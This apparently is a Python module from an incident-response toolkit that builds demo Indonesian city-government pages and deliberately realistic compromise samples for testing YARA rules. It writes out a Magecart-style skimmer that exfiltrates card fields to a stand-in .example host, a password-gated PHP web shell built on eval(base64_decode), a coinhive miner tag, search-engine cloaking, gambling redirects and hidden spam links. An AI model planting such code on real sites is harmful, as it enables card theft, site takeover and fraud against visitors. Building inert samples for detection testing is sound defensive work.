"""Page and file contents of the demo sites: clean pages and HARMLESS compromise samples.

Every "malicious" sample here is inert: the web shell only echoes a fixed string, the
skimmer and miner point at reserved ``.example`` domains that never resolve, and the
gambling spam links nowhere real. They exist to look like the real thing to YARA rules.
"""

from __future__ import annotations

import base64
import hashlib
from html import escape

from csirt_kit.demo.names import CITY
from csirt_kit.demo.sites import DemoSite

GAMBLING_DOMAINS = ("slot-gacor88.example", "maxwin-togel.example", "rtp-live-gacor.example")
SKIMMER_DOMAIN = "jquery-cdn-analytics.example"
MINER_DOMAIN = "coinhive.example"
DEFACER = "D3m0 Cyb3r T34m"
SHELL_PATH = "wp-content/uploads/2026/11/wp-cache.php"
SKIMMER_PATH = "assets/js/checkout.js"
GAMBLING_SLUGS = ("slot-gacor-maxwin", "togel-hari-ini", "rtp-live-slot88", "situs-judi-bola")
_NEWS = ("Rapat koordinasi percepatan pelayanan publik", "Sosialisasi aplikasi layanan online",
         "Kunjungan kerja Wali Kota", "Pelatihan peningkatan kapasitas aparatur",
         "Pengumuman jadwal pelayanan libur nasional", "Penyaluran bantuan untuk warga",
         "Lomba kebersihan antar RW", "Musyawarah perencanaan pembangunan",
         "Capaian kinerja triwulan III", "Himbauan waspada cuaca ekstrem")
_SPAM_TERMS = ("slot gacor", "situs slot gacor hari ini", "slot88 maxwin", "togel online",
               "bandar togel terpercaya", "rtp live slot", "link alternatif slot88",
               "judi bola online", "scatter hitam", "deposit pulsa tanpa potongan")


def _pick(site: DemoSite, items: tuple[str, ...], count: int) -> list[str]:
    """A stable choice of items for a site (from its id, independent of hash seeds)."""
    start = int(hashlib.sha256(site.asset_id.encode()).hexdigest()[:8], 16)
    return [items[(start + i * 3) % len(items)] for i in range(count)]


def clean_page(site: DemoSite, extra_head: str = "", extra_body: str = "",
               title: str = "") -> str:
    """The ordinary home page of a city site."""
    news = "\n".join(f'<li><a href="/berita/">{escape(n)}</a></li>' for n in _pick(site, _NEWS, 4))
    return f"""<!DOCTYPE html>
<html lang="id">
<head>
<meta charset="utf-8">
<title>{escape(title or site.name)} - Pemerintah {CITY}</title>
<meta name="description" content="Website resmi {escape(site.name)}, {escape(site.owner)}.">
<link rel="stylesheet" href="/assets/css/style.css">
{extra_head}</head>
<body>
<header><h1>{escape(site.name)}</h1>
<nav><a href="/">Beranda</a> <a href="/profil/">Profil</a> <a href="/berita/">Berita</a>
<a href="/kontak/">Kontak</a></nav>
</header>
<main>
<article><h2>Selamat datang</h2>
<p>Website resmi {escape(site.name)}, {escape(site.owner)}, Pemerintah {CITY}.
Informasi layanan, berita dan pengumuman untuk warga.</p></article>
<section><h2>Berita terkini</h2><ul>
{news}
</ul></section>
</main>
<footer>&copy; 2026 {escape(site.owner)} - Pemerintah {CITY}</footer>
<script src="/assets/js/app.js"></script>
{extra_body}</body>
</html>
"""


def sub_page(site: DemoSite, title: str) -> str:
    """A plain inner page (profil, berita, kontak)."""
    return (f"<!DOCTYPE html>\n<html lang=\"id\"><head><meta charset=\"utf-8\"><title>{escape(title)}"
            f" - {escape(site.name)}</title></head>\n<body><h1>{escape(title)}</h1>\n<p>{escape(site.owner)}"
            f", Pemerintah {CITY}.</p>\n<p><a href=\"/\">Kembali ke beranda</a></p></body></html>\n")


STYLE_CSS = ("body{font-family:sans-serif;margin:0;color:#222}header{background:#0b5394;color:#fff;"
             "padding:1em}nav a{color:#fff;margin-right:1em}main{padding:1em}footer{padding:1em;"
             "font-size:small;color:#666}\n")
APP_JS = ("document.addEventListener('DOMContentLoaded', function () {\n"
          "  var nav = document.querySelector('nav');\n"
          "  if (nav) { nav.setAttribute('aria-label', 'Menu utama'); }\n});\n")


def spam_links(domain_index: int = 0) -> str:
    """Hidden gambling links, the way SEO injectors hide them from human visitors."""
    domain = GAMBLING_DOMAINS[domain_index % len(GAMBLING_DOMAINS)]
    links = " ".join(f'<a href="https://{domain}/{t.replace(" ", "-")}">{t}</a>' for t in _SPAM_TERMS)
    return f'<div style="position:absolute;left:-9999px;top:-9999px">{links}</div>\n'


def spam_page(site: DemoSite) -> str:
    """What a cloaked site shows Googlebot and visitors from Google: a judi online doorway."""
    terms = ", ".join(_SPAM_TERMS)
    return clean_page(
        site, title="SLOT GACOR HARI INI - Situs Slot88 Maxwin dan Togel Online Terpercaya",
        extra_head=f'<meta name="keywords" content="{terms}">\n',
        extra_body=("<p>Daftar slot gacor hari ini gampang maxwin, bandar togel online terpercaya,"
                    " RTP live slot88 tertinggi. Deposit pulsa tanpa potongan.</p>\n"
                    + spam_links()),
    )


def doorway_page(site: DemoSite, slug: str) -> str:
    """A planted gambling doorway page under a city domain."""
    title = slug.replace("-", " ").upper()
    items = "\n".join(f"<li><a href=\"https://{GAMBLING_DOMAINS[0]}/daftar\">{t}</a></li>"
                      for t in _SPAM_TERMS)
    return f"""<!DOCTYPE html>
<html lang="id"><head><meta charset="utf-8">
<title>{title} - Daftar Situs Slot Gacor Maxwin Terpercaya 2026</title>
<meta name="description" content="Situs slot gacor hari ini gampang maxwin, togel online, judi bola.">
<link rel="canonical" href="{site.url}{slug}/">
</head><body>
<h1>{title}: SLOT GACOR MAXWIN HARI INI</h1>
<p>Bandar togel dan situs judi slot online terpercaya dengan RTP live tertinggi. Daftar sekarang,
deposit pulsa tanpa potongan, scatter hitam dan bocoran slot gacor setiap hari.</p>
<ul>
{items}
</ul>
</body></html>
"""


def defaced_page() -> str:
    """A defacement the way they usually look."""
    return f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Hacked by {DEFACER}</title></head>
<body style="background:#000;color:#0f0;text-align:center;font-family:monospace">
<h1>Hacked by {DEFACER}</h1>
<p>Your security is low! Patch your system, admin.</p>
<p>We are {DEFACER} - Indonesian Cyber Army was here</p>
<p>Greetz: ./Anon_D3m0 - xXx_Gh0st - all member {DEFACER}</p>
</body></html>
"""


def skimmer_js() -> str:
    """A Magecart-style skimmer appended to a checkout script (exfil to a reserved domain)."""
    return f"""/* checkout.js */
(function () {{
  if (!/checkout|payment/i.test(window.location.href)) {{ return; }}
  function grab() {{
    var data = {{}};
    var fields = document.querySelectorAll("input, select");
    for (var i = 0; i < fields.length; i++) {{ data[fields[i].name || fields[i].id] = fields[i].value; }}
    var card = {{number: data["cardnumber"], exp: data["cc_exp"], cvv: data["cvv"]}};
    data.card = card;
    var payload = btoa(JSON.stringify(data));
    new Image().src = "https://{SKIMMER_DOMAIN}/collect?d=" + payload;
  }}
  document.addEventListener("submit", grab, true);
}})();
"""


def miner_tag() -> str:
    """A crypto-miner script tag, coinhive style."""
    return (f'<script src="https://{MINER_DOMAIN}/lib/coinhive.min.js"></script>\n'
            "<script>var miner = new CoinHive.Anonymous('kotademo-site-key', {throttle: 0.3});"
            " miner.start();</script>\n")


def skimmer_page(site: DemoSite) -> str:
    """A payment page that loads the same-origin skimmer script."""
    form = ('<form action="/bayar" method="post"><input name="cardnumber"><input name="cc_exp">'
            '<input name="cvv"><button>Bayar</button></form>\n'
            f'<script src="/{SKIMMER_PATH}"></script>\n')
    return clean_page(site, extra_body=form)


_HARMLESS = base64.b64encode(b'echo "csirt-kit demo sample: no shell here";').decode()


def webshell_php() -> str:
    """An uploaded 'web shell' that only ever echoes a fixed string."""
    return f"""<?php
@error_reporting(0);
$default_action = "FilesMan";
$auth_pass = "5f4dcc3b5aa765d61d8327deb882cf99";
if (!isset($_POST['pass']) || md5($_POST['pass']) !== $auth_pass) {{
    echo '<html><head><title>403</title></head><body><pre align=center><form method=post>';
    echo 'Password: <input type=password name=pass><input type=submit value=">>"></form></pre></body></html>';
    exit;
}}
eval(base64_decode("{_HARMLESS}"));
"""


def webshell_page() -> str:
    """What the uploaded shell shows over HTTP: its password form."""
    return ("<html><head><title>403</title></head><body><pre align=center>"
            "<form method=post>Password: <input type=password name=pass>"
            "<input type=submit value=\">>\"></form></pre>\n"
            "<!-- FilesMan --></body></html>\n")


def cloaking_php() -> str:
    """Server-side cloaking: crawlers and Google visitors get the (cached) remote spam."""
    return f"""<?php
$ua = strtolower($_SERVER['HTTP_USER_AGENT'] ?? '');
$ref = strtolower($_SERVER['HTTP_REFERER'] ?? '');
if (preg_match('/googlebot|bingbot/', $ua) || strpos($ref, 'google.') !== false) {{
    $cache = __DIR__ . '/wp-content/languages/id_ID.html';
    if (!is_file($cache)) {{
        @file_put_contents($cache, file_get_contents('https://{GAMBLING_DOMAINS[2]}/seo/landing.html'));
    }}
    echo file_get_contents($cache);
    exit;
}}
define('WP_USE_THEMES', true);
require __DIR__ . '/wp-blog-header.php';
"""


def mobile_redirect_htaccess() -> str:
    """Apache rules sending mobile visitors from Google to a gambling site."""
    return f"""RewriteEngine On
RewriteCond %{{HTTP_REFERER}} google\\. [NC]
RewriteCond %{{HTTP_USER_AGENT}} (android|iphone|mobile) [NC]
RewriteRule ^(.*)$ https://{GAMBLING_DOMAINS[0]}/daftar [R=302,L]
"""


def redirect_all_htaccess() -> str:
    """A hijacked site: every visitor goes to a gambling site."""
    return f"""RewriteEngine On
RewriteRule ^(.*)$ https://{GAMBLING_DOMAINS[1]}/ [R=301,L]
"""


def robots_txt(site: DemoSite) -> str:
    """robots.txt of the doorway site, advertising the planted sitemap and slugs."""
    allows = "".join(f"Allow: /{slug}/\n" for slug in GAMBLING_SLUGS)
    return f"User-agent: *\n{allows}Disallow: /wp-admin/\nSitemap: {site.url}sitemap.xml\n"


def sitemap_xml(site: DemoSite) -> str:
    """A sitemap listing gambling slugs under a city domain."""
    urls = "".join(f"<url><loc>{site.url}{slug}/</loc><lastmod>2026-11-10</lastmod></url>\n"
                   for slug in GAMBLING_SLUGS)
    return ('<?xml version="1.0" encoding="UTF-8"?>\n'
            '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">\n' + urls + "</urlset>\n")


def verification_name(site: DemoSite) -> str:
    """The planted Google Search Console verification file name."""
    return "google" + hashlib.sha256(site.host.encode()).hexdigest()[:16] + ".html"


def verification_file(site: DemoSite) -> str:
    """The planted verification file's content."""
    return f"google-site-verification: {verification_name(site)}\n"


def index_html(site: DemoSite) -> str:
    """The home page every visitor gets (cloaking and redirects are decided by the server)."""
    if site.profile == "webshell":
        # The shell came in as a news "attachment"; the post still links to it.
        return clean_page(site, extra_body=f'<p>Lampiran: <a href="/{SHELL_PATH}">dokumen</a></p>\n')
    if site.profile == "defaced":
        return defaced_page()
    if site.profile == "skimmer":
        return skimmer_page(site)
    if site.profile == "miner":
        return clean_page(site, extra_body=miner_tag())
    if site.profile == "doorway":
        return clean_page(site, extra_body=spam_links(2))
    return clean_page(site)


def suspended_page(site: DemoSite) -> str:
    """The hosting panel's page for a suspended account."""
    return ("<!DOCTYPE html>\n<html><head><title>Account Suspended</title></head><body>"
            f"<h1>Account Suspended</h1><p>{escape(site.host)}: situs ini ditangguhkan. "
            "Hubungi Diskominfo.</p></body></html>\n")
